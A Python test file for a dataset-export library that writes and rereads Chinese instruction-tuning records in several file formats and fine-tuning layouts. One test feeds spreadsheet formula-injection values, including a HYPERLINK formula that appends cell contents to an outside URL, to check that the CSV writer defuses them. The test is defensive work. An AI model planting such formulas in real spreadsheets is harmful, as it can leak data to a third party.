"""Schemas and writers: what is written can be read back."""

import csv
import gzip
import io
import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from django.db import connection
from hypothesis import given, settings
from hypothesis import strategies as st

from datasets.files import Sink
from datasets.freezing import AS_JSON
from datasets.records import KEYS, Decided, Frame, canonical, compose, line
from datasets.schemas import EXAMPLES, SCHEMAS, example, keys
from datasets.writers import WRITERS
from sources.importers import IMPORTERS, recognise
from sources.reading.files import examine
from sources.spreadsheets import DANGEROUS, exact, safe

from .test_records import PATIENT, RECORD, TEXT

LINE = (
    '{"instruction": "影子下班以后住哪儿？\\n急。", "input": "", "output": "住在\\"灯\\"里。\\u001f\u2028", '
    '"task_type": {"major": ["问答"], "minor": ["逻辑问答", "隐喻理解"]}, "domain": ["通用"], "metadata": "暂无元数据信息", '
    '"answer_from": "llm", "human_verified": true, "copyright": "暂无版权及作者信息"}'
)
DATA = Path(__file__).resolve().parents[3] / "shared" / "data"
PLAIN = [name for name in WRITERS if name != "parquet" and not name.endswith(".gz")]


def written(name: str, rows: list[dict], schema: str = "cqia") -> bytes:
    out = io.BytesIO()
    pages = (b"".join((line(row) if schema == "cqia" else json.dumps(row, ensure_ascii=False)).encode() + b"\n" for row in rows[n : n + 2])
             for n in range(0, len(rows), 2))  # fmt: skip
    sink = Sink(out)
    WRITERS[name].write(sink, pages, example(schema))
    assert (sink.bytes, len(out.getvalue())) == (len(out.getvalue()), sink.bytes)
    return out.getvalue()


def read(name: str, data: bytes) -> list[dict]:
    """By code that is not ours."""
    if name == "parquet":
        return pq.read_table(io.BytesIO(data)).to_pylist()
    if name == "jsonl":
        return [json.loads(text) for text in data.decode().split("\n")[:-1]]
    if name == "json":
        return json.loads(data)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    head, cells = rows[0], rows[1:]
    cells = [[exact(cell) for cell in row] for row in cells] if name == "excel.csv" else cells
    types = example("cqia")
    return [{key: cell if isinstance(types[key], str) else json.loads(cell) for key, cell in zip(head, row, strict=True)} for row in cells]


@pytest.mark.parametrize("name", SCHEMAS)
def test_every_format_of_every_layout_is_read_back_by_our_own_importer(name, tmp_path):
    texts = ["影子下班住哪儿？", "=1+1 等于几？", "'引号", "-3 度冷吗", '第一行\n\n第二行，"引"，,', "a\tb\u2028c", "{", "[1]"]
    records = [
        compose(Decided(text, "" if n % 2 else f"+材料{text}", f"@答{text}", {"major": ["问答"]}, ["通用"])) for n, text in enumerate(texts)
    ]
    judged = [record | {"chosen": record["output"], "rejected": "差", "label": True} for record in records]
    rows = [SCHEMAS[name].row(record) for record in judged]
    for suffix in WRITERS:
        path = tmp_path / f"lamps-v1.train.{name}.{suffix}"
        path.write_bytes(written(suffix, rows, name))
        found = [row.value for row in examine(path, path.name).read()]
        posts = [IMPORTERS[recognise(found)]().read(row) for row in found]
        assert [(asked_of(post.title, post.body), post.answer) for post in posts] == [
            (asked_of(record["instruction"], record["input"]), record["output"]) for record in records
        ], suffix
        if "csv" not in suffix:
            assert found == rows, suffix


def asked_of(*texts: str) -> str:
    return "\n".join(filter(None, texts))


def test_a_line_is_spelt_as_in_the_published_files():
    task = {"minor": ["逻辑问答", "隐喻理解"], "major": ["问答"]}
    decided = Decided("影子下班以后住哪儿？\n急。", "", '住在"灯"里。\x1f\u2028', task, ["通用"], answer_from="llm")
    assert line(compose(decided)) == LINE


def test_our_line_of_a_published_record_is_the_published_line():
    """Keys, order, types and spelling are those of COIG-CQIA's own files."""
    files = sorted(DATA.glob("*/cqia_*.jsonl"))
    if not files:
        pytest.skip(f"no published files at {DATA}")
    for path in files:
        for text in path.read_text("utf-8").split("\n")[:-1]:
            record = json.loads(text)
            assert list(record) == list(KEYS)
            assert {key: type(value) for key, value in record.items()} == {key: type(value) for key, value in EXAMPLES["records"].items()}
            assert line(record) == text.rstrip("\n")


@PATIENT
@given(RECORD, TEXT, TEXT, TEXT)
def test_a_frame_spells_what_line_and_canonical_spell(record, asked, context, output):
    filled = record | {"instruction": asked, "input": context, "output": output}
    texts = [json.dumps(text, ensure_ascii=False).encode() for text in (asked, context, output)]
    assert Frame.of(record).spell(*texts) == (line(filled).encode(), canonical(filled))


@pytest.mark.django_db
def test_the_database_spells_every_character_as_line_does():
    every = "".join(chr(code) for code in (*range(1, 0xD800), *range(0xE000, 0x10000), *range(0x10000, 0x110000, 97)))
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT {AS_JSON.format('%s::text')}", [every])
        (spelled,) = cursor.fetchone()
    assert bytes(spelled) == json.dumps(every, ensure_ascii=False).encode()


@settings(PATIENT, max_examples=40)
@given(st.lists(RECORD, max_size=5))
def test_every_format_holds_equal_records(records):
    for name in [*PLAIN, "parquet"]:
        assert read(name, written(name, records)) == records, name
    for name in PLAIN:
        assert gzip.decompress(written(f"{name}.gz", records)) == written(name, records)


@PATIENT
@given(TEXT)
def test_a_safe_cell_is_no_formula_and_can_be_undone(text):
    assert exact(safe(text)) == text
    assert not safe(text).startswith(tuple(mark for mark in DANGEROUS if mark != "'"))
    assert exact(safe("'" + text)) == "'" + text


@pytest.mark.parametrize("evil", ['=HYPERLINK("http://x?"&A1)', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "'=1"])
def test_formulas_stay_texts_in_the_file_for_spreadsheets(evil):
    record = compose(Decided(evil, evil, evil, domain=[evil], licence=evil))
    rows = list(csv.reader(io.StringIO(written("excel.csv", [record]).decode("utf-8-sig"), newline="")))
    assert not [cell for cell in rows[1] if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))]
    assert read("csv", written("csv", [record])) == [record]


def test_the_same_rows_give_the_same_bytes():
    record = compose(Decided("问", "", "答"))
    for name in WRITERS:
        assert written(name, [record] * 3) == written(name, [record] * 3), name


@pytest.mark.parametrize(("text", "asked"), [("", "问"), ("材料", "问\n材料")])
def test_instruction_and_input_are_joined_by_a_line_feed(text, asked):
    data = compose(Decided("问", text, "答"))
    said = [{"role": "user", "content": asked}, {"role": "assistant", "content": "答"}]
    assert SCHEMAS["messages"].row(data) == {"messages": said}
    assert SCHEMAS["sharegpt"].row(data) == {"conversations": [{"from": "human", "value": asked}, {"from": "gpt", "value": "答"}]}
    assert SCHEMAS["prompt-completion"].row(data) == {"prompt": asked, "completion": "答"}


def test_preferences_are_laid_out_as_each_trainer_documents_it():
    pair = {"instruction": "问", "input": "材料", "chosen": "好", "rejected": "差"}
    user, good, bad = ({"role": role, "content": text} for role, text in (("user", "问\n材料"), ("assistant", "好"), ("assistant", "差")))
    expected = {
        "dpo": pair,
        "dpo-sharegpt": {
            "conversations": [{"from": "human", "value": "问\n材料"}],
            "chosen": {"from": "gpt", "value": "好"},
            "rejected": {"from": "gpt", "value": "差"},
        },
        "dpo-openai": {
            "input": {"messages": [user], "tools": [], "parallel_tool_calls": True},
            "preferred_output": [good],
            "non_preferred_output": [bad],
        },
        "dpo-trl": {"prompt": "问\n材料", "chosen": "好", "rejected": "差"},
        "dpo-swift": {"messages": [user, good], "rejected_response": "差"},
        "dpo-axolotl": {"messages": [user], "chosen": good, "rejected": bad},
    }
    assert {name: schema.row(pair) for name, schema in SCHEMAS.items() if schema.kind == "ranked"} == expected
    one = {"instruction": "问", "input": "", "output": "差", "label": False}
    assert {name: schema.row(one) for name, schema in SCHEMAS.items() if schema.kind == "labelled"} == {
        "kto": {"instruction": "问", "input": "", "output": "差", "kto_tag": False},
        "kto-trl": {"prompt": "问", "completion": "差", "label": False},
        "kto-swift": {"messages": [{"role": "user", "content": "问"}, {"role": "assistant", "content": "差"}], "label": False},
    }


@pytest.mark.parametrize("name", SCHEMAS)
def test_every_layout_can_be_written_as_parquet(name):
    row = SCHEMAS[name].row(EXAMPLES[SCHEMAS[name].kind])
    assert pq.read_table(io.BytesIO(written("parquet", [row], name))).to_pylist() == [row]
    assert list(row) == keys(name)
